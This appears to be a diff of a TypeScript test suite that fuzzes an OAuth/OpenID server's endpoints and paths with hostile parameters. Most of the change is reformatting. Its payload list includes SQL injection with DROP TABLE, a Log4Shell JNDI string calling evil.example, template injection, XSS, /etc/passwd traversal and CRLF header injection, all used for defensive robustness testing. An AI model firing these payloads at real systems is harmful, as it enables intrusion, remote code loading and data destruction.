@@ -1,6 +1,6 @@
 import { expect } from 'chai';
+import { onEachDatabase } from '../support/each-database.js';
 import { CALLBACK, createApp, createUser, jsonOf, type TestApp, USER_PASSWORD } from '../support/oauth-client.js';
-import { onEachDatabase } from '../support/databases.js';
 import { startTestServer, type TestServer } from '../support/test-server.js';
 import { type Fields, type Hop, Visitor, withQuery } from '../support/visitor.js';
 
@@ -17,7 +17,7 @@ const values: readonly string[] = [
   "' OR '1'='1' --",
   '"; DROP TABLE living_state; --',
   '{"$ne":null}',
-  '${jndi:ldap://evil.example/x}',
+  '\u0024{jndi:ldap://evil.example/x}',
   '{{7*7}}<%= 7*7 %>',
   '<script>alert(1)</script>',
   '../../../../etc/passwd',
@@ -39,12 +39,61 @@ const values: readonly string[] = [
 ];
 /** As it arrives: what is no Unicode is replaced on the way. */
 const wellFormed = (text: string) => Buffer.from(text).toString();
-const wild = ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', '', '[]', 'a[b]', 'a.b', '\0', '\r\n'];
+const wild = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'hasOwnProperty',
+  'toString',
+  '',
+  '[]',
+  'a[b]',
+  'a.b',
+  '\0',
+  '\r\n',
+];
 
-const authorizeNames = ['client_id', 'redirect_uri', 'response_type', 'response_mode', 'scope', 'state', 'nonce', 'prompt', 'max_age', 'login_hint', 'ui_locales', 'code_challenge', 'code_challenge_method', 'id_token_hint', 'acr_values', 'display', 'sessionDataKey', 'sessionDataKeyConsent'];
-const loginNames = ['sessionDataKey', 'username', 'password', 'usernameUserInput', 'chkRemember', 'authenticator', 'idp', 'tenantDomain'];
+const authorizeNames = [
+  'client_id',
+  'redirect_uri',
+  'response_type',
+  'response_mode',
+  'scope',
+  'state',
+  'nonce',
+  'prompt',
+  'max_age',
+  'login_hint',
+  'ui_locales',
+  'code_challenge',
+  'code_challenge_method',
+  'id_token_hint',
+  'acr_values',
+  'display',
+  'sessionDataKey',
+  'sessionDataKeyConsent',
+];
+const loginNames = [
+  'sessionDataKey',
+  'username',
+  'password',
+  'usernameUserInput',
+  'chkRemember',
+  'authenticator',
+  'idp',
+  'tenantDomain',
+];
 const logoutNames = ['id_token_hint', 'client_id', 'post_logout_redirect_uri', 'state', 'sessionDataKey', 'consent'];
-const tokenNames = ['grant_type', 'code', 'redirect_uri', 'code_verifier', 'refresh_token', 'scope', 'client_id', 'client_secret'];
+const tokenNames = [
+  'grant_type',
+  'code',
+  'redirect_uri',
+  'code_verifier',
+  'refresh_token',
+  'scope',
+  'client_id',
+  'client_secret',
+];
 
 /** What no answer may be, whatever was sent. */
 function expectDecent({ status, headers, cookies, text, location }: Hop, what: string): void {
@@ -72,10 +121,15 @@ onEachDatabase('hostile parameters', (database) => {
 
   // What breaks a database is tried on each; what breaks a parser, on one.
   const sent = database === 'sqlite' ? values : [...values.slice(0, 10), 'x'.repeat(4000)];
-  const inAll = async (names: readonly string[], usual: Record<string, string>, send: (fields: Fields) => Promise<Hop>) => {
+  const inAll = async (
+    names: readonly string[],
+    usual: Record<string, string>,
+    send: (fields: Fields) => Promise<Hop>,
+  ) => {
     const cases: [string, Fields][] = [];
     for (const name of names) {
-      for (const value of sent) cases.push([`${name}=${JSON.stringify(value.slice(0, 40))}`, { ...usual, [name]: value }]);
+      for (const value of sent)
+        cases.push([`${name}=${JSON.stringify(value.slice(0, 40))}`, { ...usual, [name]: value }]);
       cases.push([`${name} twice`, [...Object.entries(usual), [name, 'a'], [name, 'b']]]);
       cases.push([`${name} empty`, { ...usual, [name]: '' }]);
     }
@@ -109,7 +163,11 @@ onEachDatabase('hostile parameters', (database) => {
       const page = await browser.get(app.authorizePath(parameters), headers);
       expectDecent(page, value);
       const sessionDataKey = page.location?.searchParams.get('sessionDataKey') ?? '';
-      const back = await browser.post('/commonauth', { sessionDataKey, username: 'alice', password: USER_PASSWORD }, headers);
+      const back = await browser.post(
+        '/commonauth',
+        { sessionDataKey, username: 'alice', password: USER_PASSWORD },
+        headers,
+      );
       const done = await browser.follow(back);
       expectDecent(done, value);
       expect(done.location?.searchParams.get('state'), value).to.equal(wellFormed(value));
@@ -120,7 +178,11 @@ onEachDatabase('hostile parameters', (database) => {
   it('of the token endpoint, for each grant', async function () {
     this.timeout(60_000);
     const headers = { authorization: app.basic };
-    for (const grant of [{ grant_type: 'authorization_code', code: 'x' }, { grant_type: 'refresh_token', refresh_token: 'x' }, { grant_type: 'client_credentials' }])
+    for (const grant of [
+      { grant_type: 'authorization_code', code: 'x' },
+      { grant_type: 'refresh_token', refresh_token: 'x' },
+      { grant_type: 'client_credentials' },
+    ])
       await inAll(tokenNames, { ...grant }, (fields) => new Visitor(server).post('/oauth2/token', fields, headers));
   });
 
@@ -144,7 +206,9 @@ onEachDatabase('hostile parameters', (database) => {
     const headers = { authorization: app.basic };
     const usual = { token: 'x' };
     for (const path of ['/oauth2/introspect', '/oauth2/revoke'])
-      await inAll(['token', 'token_type_hint', 'client_id'], usual, (fields) => new Visitor(server).post(path, fields, headers));
+      await inAll(['token', 'token_type_hint', 'client_id'], usual, (fields) =>
+        new Visitor(server).post(path, fields, headers),
+      );
     await inAll(['access_token'], {}, (fields) => new Visitor(server).post('/oauth2/userinfo', fields));
   });
 
@@ -157,9 +221,25 @@ onEachDatabase('hostile parameters', (database) => {
   });
 
   it('of paths', async () => {
-    const parts = ['%00', '%0d%0aX-Evil:1', '%E0%A4%A', '%ff', '..%2f..%2f', '__proto__', 'x'.repeat(5000), '%F0%9F%98%80', "'"];
+    const parts = [
+      '%00',
+      '%0d%0aX-Evil:1',
+      '%E0%A4%A',
+      '%ff',
+      '..%2f..%2f',
+      '__proto__',
+      'x'.repeat(5000),
+      '%F0%9F%98%80',
+      "'",
+    ];
     for (const part of parts)
-      for (const path of [`/oauth2/${part}/.well-known/openid-configuration`, `/t/${part}/oauth2/authorize`, `/o/${part}/oauth2/token`, `/${part}`, `/oauth2/${part}`])
+      for (const path of [
+        `/oauth2/${part}/.well-known/openid-configuration`,
+        `/t/${part}/oauth2/authorize`,
+        `/o/${part}/oauth2/token`,
+        `/${part}`,
+        `/oauth2/${part}`,
+      ])
         expectDecent(await new Visitor(server).get(path), path.slice(0, 80));
   });
 
@@ -167,7 +247,11 @@ onEachDatabase('hostile parameters', (database) => {
     expect((await app.userinfo((await app.tokens('alice')).access)).status).to.equal(200);
     const plain = { polluted: undefined } as Record<string, unknown>;
     expect(plain['isAdmin']).to.equal(undefined);
-    const hop = await new Visitor(server).post('/oauth2/token', { grant_type: 'client_credentials' }, { authorization: app.basic });
+    const hop = await new Visitor(server).post(
+      '/oauth2/token',
+      { grant_type: 'client_credentials' },
+      { authorization: app.basic },
+    );
     expect(jsonOf(hop).status).to.equal(200);
     expect(server.logs.filter(({ level, msg }) => level === 'error' || msg === 'a request failed')).to.deep.equal([]);
   });
